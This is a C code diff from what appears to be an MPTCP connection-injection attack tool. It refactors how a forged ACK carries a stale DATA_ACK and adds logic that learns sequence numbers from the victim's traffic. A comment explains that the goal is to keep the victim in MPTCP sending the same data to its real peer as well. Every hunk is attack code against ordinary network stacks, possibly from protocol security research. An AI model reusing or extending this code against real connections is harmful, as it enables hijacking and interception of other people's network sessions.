@@ -42,6 +42,19 @@ struct plait_segment plait_intruder_segment(const struct plait_intruder *intrude
     };
 }
 
+struct plait_dss *plait_intruder_add_dss(const struct plait_intruder *intruder,
+                                         struct plait_segment *segment)
+{
+    if (intruder->is_plain)
+        return NULL;
+    struct plait_mptcp_option *option = &segment->mptcp[segment->mptcp_count++];
+    *option = (struct plait_mptcp_option){.subtype = PLAIT_DSS,
+                                          .dss = {.has_ack = true,
+                                                  .ack_is_64 = !intruder->stale_ack_is_low,
+                                                  .data_ack = intruder->stale_ack}};
+    return &option->dss;
+}
+
 void plait_forget(struct plait_intruder *intruder)
 {
     intruder->used = false;
@@ -64,10 +77,7 @@ static void acknowledge(struct plait_attack *attack, struct plait_intruder *intr
     struct plait_segment ack = plait_intruder_segment(intruder, PLAIT_ACK);
     /* Without a DATA_ACK the victim would leave MPTCP (RFC 8684 §3.7, N40); an old one keeps it
      * sending the same octets to its true peer as well. */
-    ack.mptcp[0] = (struct plait_mptcp_option){
-        .subtype = PLAIT_DSS,
-        .dss = {.has_ack = true, .ack_is_64 = true, .data_ack = intruder->stale_ack}};
-    ack.mptcp_count = 1;
+    plait_intruder_add_dss(intruder, &ack);
     uint8_t octets[PLAIT_FRAME_OCTETS];
     size_t length_octets;
     if (!plait_ok(plait_segment_build(&ack, octets, sizeof octets, &length_octets)))
@@ -88,9 +98,18 @@ static void learn_numbers(struct plait_intruder *intruder, const struct plait_se
         if (join)
             intruder->peer_nonce = join->join.nonce;
     }
+    if (dss && dss->dss.has_ack) {
+        intruder->has_low_expected = true;
+        intruder->low_expected = (uint32_t)dss->dss.data_ack;
+    }
     if (dss && dss->dss.has_ack && dss->dss.ack_is_64) {
         intruder->has_expected_dsn = true;
         intruder->expected_dsn = dss->dss.data_ack;
+    }
+    if (dss && dss->dss.has_map && !intruder->has_stale_ack) {
+        intruder->has_stale_ack = true; /* where no key tells the first number of the stream */
+        intruder->stale_ack = dss->dss.dsn;
+        intruder->stale_ack_is_low = !dss->dss.dsn_is_64;
     }
 }
 
